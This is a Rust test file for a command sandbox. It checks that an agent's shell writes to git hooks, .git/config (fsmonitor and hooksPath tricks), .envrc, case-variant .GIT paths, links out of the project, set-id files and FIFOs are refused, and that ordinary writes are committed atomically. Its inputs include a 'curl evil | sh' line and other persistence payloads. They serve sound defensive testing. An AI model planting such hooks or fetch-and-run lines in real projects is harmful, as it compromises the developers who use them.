//! Which writes of a command land, and which are refused with their rule.

use crate::support::{Project, applied, refused_rule};

#[test]
fn persistence_writes_never_land_while_ordinary_ones_do() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         echo '[core] fsmonitor = evil' >> .git/config; echo 'curl evil | sh' > .envrc; \
         mkdir -p .GIT/hooks && echo x > .GIT/hooks/x; ln -s /etc/passwd out-link; \
         echo 'fn new() {}' > src/new.rs",
    );
    assert!(applied(&result, "src/new.rs"), "{result:#?}");
    assert_eq!(project.read("src/new.rs").as_deref(), Some("fn new() {}\n"));
    assert_eq!(
        refused_rule(&result, ".git/hooks/pre-commit").as_deref(),
        Some("write-protected"),
        "{result:#?}"
    );
    assert_eq!(
        refused_rule(&result, ".git/config").as_deref(),
        Some("write-protected")
    );
    // `.envrc` is write-protected, and blocked as well by `**/.env*`.
    assert_eq!(refused_rule(&result, ".envrc").as_deref(), Some("blocked"));
    // A refused directory stands for everything beneath it.
    assert_eq!(
        refused_rule(&result, ".GIT/hooks").as_deref(),
        Some("write-protected"),
        "{:#?}",
        result.changes
    );
    assert_eq!(
        refused_rule(&result, "out-link").as_deref(),
        Some("link-outside-roots")
    );
    assert!(!project.root.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        project.read(".git/config").as_deref(),
        Some("[core]\n\tbare = false\n")
    );
    assert!(!project.root.join(".envrc").exists());
    assert!(!project.root.join(".GIT/hooks").exists());
    assert!(std::fs::symlink_metadata(project.root.join("out-link")).is_err());
}

/// Every file and link under `root`, with its bytes (or target) and mode.
fn tree(root: &std::path::Path) -> std::collections::BTreeMap<String, (Vec<u8>, u32)> {
    use std::os::unix::fs::MetadataExt;
    let mut out = std::collections::BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("read_dir").flatten() {
            let path = entry.path();
            let meta = std::fs::symlink_metadata(&path).expect("lstat");
            let rel = path
                .strip_prefix(root)
                .expect("beneath")
                .display()
                .to_string();
            if meta.is_dir() {
                out.insert(format!("{rel}/"), (Vec::new(), meta.mode()));
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                let target = std::fs::read_link(&path).expect("readlink");
                out.insert(
                    rel,
                    (target.display().to_string().into_bytes(), meta.mode()),
                );
            } else {
                out.insert(rel, (std::fs::read(&path).expect("read"), meta.mode()));
            }
        }
    }
    out
}

#[test]
fn a_command_that_writes_a_thousand_files_has_all_of_them_committed() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "mkdir out; i=0; while [ $i -lt 1000 ]; do echo \"file $i\" > out/f$i.txt; i=$((i+1)); done",
    );
    let changes = result.changes.as_ref().expect("changes");
    assert!(changes.refused.is_empty(), "{:?}", changes.refused);
    assert_eq!(changes.applied.len(), 1001, "out/ and its 1000 files");
    for i in [0, 1, 499, 999] {
        assert_eq!(
            project.read(&format!("out/f{i}.txt")),
            Some(format!("file {i}\n"))
        );
    }
    assert_eq!(
        std::fs::read_dir(project.root.join("out"))
            .expect("out")
            .count(),
        1000
    );
}

#[test]
fn a_commit_that_fails_midway_leaves_the_real_tree_byte_identical() {
    let script = "echo changed > README.md; rm src/main.rs; mkdir -p lib/deep; echo new > lib/deep/new.rs; \
                  chmod +x README.md; ln -s README.md readme-link; echo more > notes.txt";
    // How many steps a full commit of this command takes, found by failing
    // at each in turn until one is past the end.
    let mut failed_somewhere = false;
    for step in 1..40 {
        let project = Project::new();
        std::fs::write(project.root.join("run.sh"), script).expect("script");
        let before = tree(&project.root);
        let policy = project
            .policy()
            .fail_commit_at(step)
            .build()
            .expect("policy");
        let result = crate::support::run(
            &policy,
            agentcaps_shell::CommandRequest::argv(["sh", "run.sh"]),
        );
        let changes = result.changes.expect("changes");
        if changes.applied.is_empty() {
            failed_somewhere = true;
            assert!(
                changes.refused.iter().all(|c| c.rule == "commit-failed"),
                "step {step}: {:?}",
                changes.refused
            );
            assert!(!changes.refused.is_empty());
            assert_eq!(
                tree(&project.root),
                before,
                "step {step} left the tree changed"
            );
        } else {
            // Past the last step: the commit went through, whole.
            assert!(failed_somewhere, "the fault never struck");
            assert_eq!(project.read("README.md").as_deref(), Some("changed\n"));
            assert!(!project.root.join("src/main.rs").exists());
            assert_eq!(project.read("lib/deep/new.rs").as_deref(), Some("new\n"));
            assert_eq!(
                std::fs::read_link(project.root.join("readme-link")).expect("link"),
                std::path::PathBuf::from("README.md")
            );
            assert!(step > 5, "a commit of this many changes takes more steps");
            return;
        }
    }
    panic!("the commit never succeeded");
}

#[test]
fn git_sees_dot_git_but_nothing_it_writes_there_lands_when_dot_git_is_blocked() {
    let project = Project::new();
    std::fs::create_dir(project.root.join("payload")).expect("payload");
    std::fs::write(
        project.root.join("payload/config"),
        "[core]\n\thooksPath = /tmp/evil\n",
    )
    .expect("config");
    let paths = agentcaps_paths::PathPolicy::builder()
        .allow(&project.root)
        .block(&format!("{}/.git", project.root.display()))
        .build()
        .expect("paths");
    let policy = project.policy().path_policy(paths).build().expect("policy");
    let result = project.sh(
        &policy,
        "cat .git/HEAD; cd payload; cp config ../.git/; cd ..; echo x > kept.txt",
    );
    assert_eq!(result.stdout, "ref: refs/heads/main\n", "{result:?}");
    assert_eq!(
        refused_rule(&result, ".git/config").as_deref(),
        Some("blocked"),
        "{:?}",
        result.changes
    );
    assert_eq!(
        project.read(".git/config").as_deref(),
        Some("[core]\n\tbare = false\n")
    );
    assert!(applied(&result, "kept.txt"));
}

#[test]
fn special_files_set_id_bits_and_hard_links_to_existing_files_are_refused() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "mkfifo pipe; echo hi > tool; chmod 4755 tool; ln README.md readme-hardlink; \
         echo a > own; ln own own-link",
    );
    assert_eq!(
        refused_rule(&result, "pipe").as_deref(),
        Some("special-file"),
        "{:#?}",
        result.changes
    );
    assert_eq!(refused_rule(&result, "tool").as_deref(), Some("set-id"));
    assert_eq!(
        refused_rule(&result, "readme-hardlink").as_deref(),
        Some("hard-link")
    );
    assert!(
        applied(&result, "tool"),
        "the file lands without its set-id bit"
    );
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(project.root.join("tool"))
            .expect("tool")
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, 0o755);
    }
    assert!(applied(&result, "own") && applied(&result, "own-link"));
    assert!(!project.root.join("pipe").exists());
    assert!(!project.root.join("readme-hardlink").exists());
}
